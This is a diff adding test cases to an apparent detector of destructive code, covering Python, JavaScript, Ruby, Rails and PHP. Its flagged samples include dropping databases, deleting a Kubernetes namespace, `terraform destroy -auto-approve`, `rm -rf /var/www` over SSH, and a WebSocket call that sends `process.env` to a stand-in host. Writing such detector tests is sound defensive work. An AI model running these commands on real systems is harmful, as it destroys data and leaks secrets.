@@ -186,3 +186,56 @@ describe("tables without a condition", () => {
   check("php", true, "App\\Models\\User::all()->each->delete();");
   check("php", true, 'Http::withToken("x")->delete("https://api.github.com/repos/acme/api");');
 });
+
+describe("clients that nobody has told of, and stand-ins", () => {
+  check(
+    "py",
+    true,
+    'from keycloak import KeycloakAdmin\nKeycloakAdmin(server_url="https://sso.example.com").delete_realm("acme")',
+    "from models import db\ndb.drop_all_tables(with_all_data=True)",
+    "from zenpy import Zenpy\nz = Zenpy(**c)\nfor t in z.tickets(): z.tickets.delete(t)",
+    'import subprocess\nopts = dict(args=["dropdb", "shop"], check=True)\nsubprocess.run(**opts)',
+  );
+  check(
+    "py",
+    false,
+    'import fakeredis\nr = fakeredis.FakeRedis(); r.set("a", 1); r.flushall()',
+    "import mongomock\nmongomock.MongoClient().db.c.delete_many({})",
+    'import openpyxl\nw = openpyxl.Workbook(); w.remove(w.active); w.create_sheet("a").delete_rows(1)',
+    "import networkx as nx\ng = nx.Graph(); g.add_node(1); g.remove_node(1)",
+    'import pandas as pd\npd.DataFrame({"a": [1]}).drop(columns=["a"])',
+  );
+  check(
+    "js",
+    true,
+    'import { LinearClient } from "@linear/sdk";\nfor (const i of (await new LinearClient({ apiKey: k }).issues()).nodes) await i.delete();',
+    'import { MikroORM } from "@mikro-orm/core";\nconst orm = await MikroORM.init();\nawait orm.schema.dropSchema();',
+    'import { User } from "./models/index.js";\nawait User.truncate({ cascade: true });',
+    'import { ds } from "./ds.js";\nawait ds.getRepository("User").delete({});',
+    'import { MongoClient } from "mongodb";\nfor (const c of await new MongoClient(u).db("shop").collections()) await c.drop();',
+    'import neo4j from "neo4j-driver";\nawait neo4j.driver("bolt://x").session().run("MATCH (n) DETACH DELETE n");',
+    'import { x } from "tinyexec";\nawait x("terraform", ["destroy", "-auto-approve"]);',
+    'import WebSocket from "ws";\nconst ws = new WebSocket("wss://c.example.net");\nws.on("open", () => ws.send(JSON.stringify(process.env)));',
+  );
+  check(
+    "js",
+    false,
+    'import { LRUCache } from "lru-cache";\nconst c = new LRUCache({ max: 5 }); c.set("a", 1); c.delete("a"); c.clear();',
+    'import WebSocket from "ws";\nconst ws = new WebSocket("wss://c.example.net");\nws.on("open", () => ws.send("hi"));',
+    'import { ds } from "./ds.js";\nawait ds.getRepository("User").delete({ id: 1 });',
+  );
+  check("rb", true, 'require "kubeclient"; Kubeclient::Client.new("https://k").delete_namespace("prod")');
+  check("rb", true, 'require "net/sftp"; Net::SFTP.start("h", "u") { |s| s.remove!("/backups/db.sql") }');
+  check(
+    "rails",
+    true,
+    'Rails.application.load_tasks; Rake::Task["db:drop"].invoke',
+    "ActiveRecord::Tasks::DatabaseTasks.drop_all",
+  );
+  check(
+    "php",
+    true,
+    "foreach (App\\Models\\Order::cursor() as $o) { $o->forceDelete(); }",
+    'ssh2_exec($c, "rm -rf /var/www");',
+  );
+});
